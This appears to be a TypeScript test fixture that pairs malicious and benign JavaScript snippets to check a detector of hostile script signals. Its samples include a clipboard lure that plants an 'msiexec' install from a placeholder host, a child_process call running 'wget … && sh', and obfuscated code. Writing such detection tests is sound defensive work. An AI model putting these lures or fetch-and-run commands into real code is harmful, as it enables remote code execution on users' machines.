import type { JS } from '../../../src/analysis/js/signals.ts';
import { many, type Pairs, within } from './pair.ts';

/** Two whole scripts. */
const script = within((piece) => piece);
const words = (times: number) => many(times, (index) => `some words ${index}`, ' ');
/** Beside it alone what speaks for a script counts. */
const PACKED = `'${many(300, (index) => ((index * 48_271) % 65_521).toString(36), '')}'`;
const SIGNS = `${'(![]+[])[+[]]+'.repeat(8)}[]`;
const child = within((piece) => `require('child_process').exec('${piece}');`);

export const SHOWN_JS: Pairs<typeof JS> = {
  hiddenLinks: within(
    (place) =>
      `<div style="position:absolute;left:${place}"><a href="https://a.example">a</a><a href="https://b.example">b</a></div>`,
  )('-9999px', '10px'),
  clipboardCommand: within(
    (command) => `navigator.clipboard.writeText('${command}'); show('Press Win + R');`,
  )(`msiexec /i ${'https'}://files.example/a`, 'msiexec /i a.msi'),
  nodeHostile: child('wget files.example/a && sh ./a', 'wget files.example/a && sha256sum ./a'),
  symbolsOnly: script(SIGNS, `s = [${'[1],[2],'.repeat(8)}];`),
  packedText: script(`s = ${PACKED};`, `s = '${words(60)}';`),
  conditional: script('/*@cc_on go(); @*/', '/* cc_on */ go();'),
  junk: script("x = ('a', 'b');".repeat(9), "x = f('a', 'b');".repeat(9)),
  junkComments: script(`// ${words(160)}\ngo();`, `// Copyright ${words(160)}\ngo();`),
  program: script(`s = 'TVqQ${'A'.repeat(40)}';`, `s = 'TVqQ${'A'.repeat(20)}';`),
  library: script(`module.exports = ${SIGNS};`, `window.go = words(20);`),
  documented: script(`/** @param x ${words(40)} */ s = ${SIGNS};`, `/** ${words(20)} */ s = words(20);`),
};
